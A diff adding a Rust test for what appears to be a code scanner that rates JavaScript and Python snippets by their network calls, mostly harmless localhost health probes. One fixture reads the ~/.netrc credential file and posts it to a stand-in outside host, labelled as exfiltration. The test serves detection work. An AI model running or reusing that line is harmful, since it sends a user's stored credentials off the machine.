@@ -4804,3 +4804,58 @@ fn requests_that_send_nothing_and_verified_downloads() {
     ];
     check_all(rows);
 }
+
+#[test]
+fn a_helper_called_with_several_urls_of_this_machine() {
+    use Language::{JavaScript as Js, Python as Py};
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // A readiness helper called for two local servers: every URL is on this machine.
+        (
+            Js,
+            "const http = require('http');\n\
+             function ready(url) {\n\
+             \x20 return new Promise((ok) => http.get(url, (r) => ok(r.statusCode)));\n\
+             }\n\
+             async function main() {\n\
+             \x20 await ready('http://localhost:8080/healthz');\n\
+             \x20 await ready('http://127.0.0.1:5173/');\n\
+             }\n\
+             main();\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import urllib.request\n\
+             def probe(url):\n\
+             \x20   with urllib.request.urlopen(url, timeout=2) as r:\n\
+             \x20       return r.status\n\
+             for u in ('http://localhost:8000/api/ping', 'http://[::1]:9000/'):\n\
+             \x20   print(u, probe(u))\n",
+            Clean,
+            "",
+        ),
+        // One of the URLs elsewhere: the host is not known to be this machine.
+        (
+            Js,
+            "const http = require('http');\n\
+             function ready(url) { http.get(url, (r) => console.log(r.statusCode)); }\n\
+             ready('http://localhost:8080/healthz');\n\
+             ready('http://status.example-unlisted.dev/ping');\n",
+            Suspicious,
+            "network",
+        ),
+        // A secret sent through the same helper stays exfiltration.
+        (
+            Py,
+            "import os, urllib.request\n\
+             def post(url, body):\n\
+             \x20   urllib.request.urlopen(url, data=body)\n\
+             post('http://localhost:8000/log', b'started')\n\
+             post('http://collector.example-unlisted.dev/in', open(os.path.expanduser('~/.netrc'), 'rb').read())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(rows);
+}
